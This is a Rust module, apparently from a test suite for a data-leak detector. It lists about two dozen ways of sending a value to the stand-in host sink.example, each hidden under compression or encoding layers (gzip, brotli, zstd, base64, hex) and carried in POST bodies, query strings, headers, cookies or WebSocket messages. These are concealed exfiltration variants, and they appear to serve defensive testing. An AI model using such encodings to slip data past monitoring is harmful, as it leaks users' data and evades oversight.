//! Compressed, alone and under other wrappings.

use std::io::Write;

use data_encoding::{BASE64, BASE64URL_NOPAD, HEXLOWER};
use flate2::{
    Compression,
    write::{DeflateEncoder, GzEncoder, ZlibEncoder},
};

use crate::{Way, codings::field, get, post, request, socket};

pub const WAYS: &[Way] = &[
    ("gzip", |value| post(gzip(json(value).as_bytes()))),
    ("gzip with its header", |value| {
        request("https://sink.example/", &[("Content-Encoding", "gzip")], &gzip(json(value).as_bytes()))
    }),
    ("gzip in gzip", |value| post(gzip(&gzip(json(value).as_bytes())))),
    ("zlib", |value| post(zlib(json(value).as_bytes()))),
    ("deflate", |value| post(deflate(json(value).as_bytes()))),
    ("brotli", |value| {
        request("https://sink.example/", &[("Content-Encoding", "br")], &brotli(json(value).as_bytes()))
    }),
    ("zstd", |value| post(zstd(json(value).as_bytes()))),
    ("lz4", |value| post(lz4(json(value).as_bytes()))),
    ("snappy", |value| post(snap::raw::Encoder::new().compress_vec(json(value).as_bytes()).expect("memory"))),
    ("snappy in frames", |value| post(snappy_framed(json(value).as_bytes()))),
    ("lz-string, base64", |value| post(field(&lz_str::compress_to_base64(json(value).as_str())))),
    ("lz-string, for addresses", |value| {
        get(&format!("https://sink.example/?d={}", lz_str::compress_to_encoded_uri_component(json(value).as_str())))
    }),
    ("base64 of gzip", |value| post(field(&BASE64.encode(&gzip(json(value).as_bytes()))))),
    ("base64url of gzip in a query", |value| {
        get(&format!("https://sink.example/?d={}", BASE64URL_NOPAD.encode(&gzip(json(value).as_bytes()))))
    }),
    ("base64 of zlib", |value| post(field(&BASE64.encode(&zlib(json(value).as_bytes()))))),
    ("base64 of deflate", |value| post(field(&BASE64.encode(&deflate(json(value).as_bytes()))))),
    ("base64 of brotli", |value| post(field(&BASE64.encode(&brotli(json(value).as_bytes()))))),
    ("base64 of zstd", |value| post(field(&BASE64.encode(&zstd(json(value).as_bytes()))))),
    ("base64 of lz4", |value| post(field(&BASE64.encode(&lz4(json(value).as_bytes()))))),
    ("hex of gzip", |value| post(field(&HEXLOWER.encode(&gzip(json(value).as_bytes()))))),
    ("gzip of base64", |value| post(gzip(BASE64.encode(json(value).as_bytes()).as_bytes()))),
    ("gzip of a form of base64 of gzip", |value| {
        post(gzip(field(&BASE64.encode(&gzip(json(value).as_bytes()))).as_bytes()))
    }),
    ("JSON with base64 of gzip", |value| {
        post(serde_json::json!({"p": BASE64.encode(&gzip(json(value).as_bytes()))}).to_string())
    }),
    ("gzip in a WebSocket message", |value| socket(false, &gzip(json(value).as_bytes()))),
    ("base64 of gzip in a cookie", |value| {
        let cookie = format!("s={}", BASE64URL_NOPAD.encode(&gzip(json(value).as_bytes())));
        request("https://sink.example/", &[("Cookie", &cookie)], b"")
    }),
];

/// What an app would pack.
fn json(value: &str) -> String {
    serde_json::json!({"event": "identify", "lib": "web 1.2.3", "properties": {"user": value, "plan": "free"}})
        .to_string()
}

pub fn gzip(plain: &[u8]) -> Vec<u8> {
    let mut writer = GzEncoder::new(Vec::new(), Compression::default());
    writer.write_all(plain).expect("memory");
    writer.finish().expect("memory")
}

fn zlib(plain: &[u8]) -> Vec<u8> {
    let mut writer = ZlibEncoder::new(Vec::new(), Compression::default());
    writer.write_all(plain).expect("memory");
    writer.finish().expect("memory")
}

fn deflate(plain: &[u8]) -> Vec<u8> {
    let mut writer = DeflateEncoder::new(Vec::new(), Compression::default());
    writer.write_all(plain).expect("memory");
    writer.finish().expect("memory")
}

fn brotli(plain: &[u8]) -> Vec<u8> {
    let mut packed = Vec::new();
    let parameters = brotli::enc::BrotliEncoderParams::default();
    brotli::BrotliCompress(&mut &plain[..], &mut packed, &parameters).expect("memory");
    packed
}

fn zstd(plain: &[u8]) -> Vec<u8> {
    ruzstd::encoding::compress_to_vec(plain, ruzstd::encoding::CompressionLevel::Fastest)
}

fn lz4(plain: &[u8]) -> Vec<u8> {
    let mut writer = lz4_flex::frame::FrameEncoder::new(Vec::new());
    writer.write_all(plain).expect("memory");
    writer.finish().expect("memory")
}

fn snappy_framed(plain: &[u8]) -> Vec<u8> {
    let mut writer = snap::write::FrameEncoder::new(Vec::new());
    writer.write_all(plain).expect("memory");
    writer.into_inner().expect("memory")
}
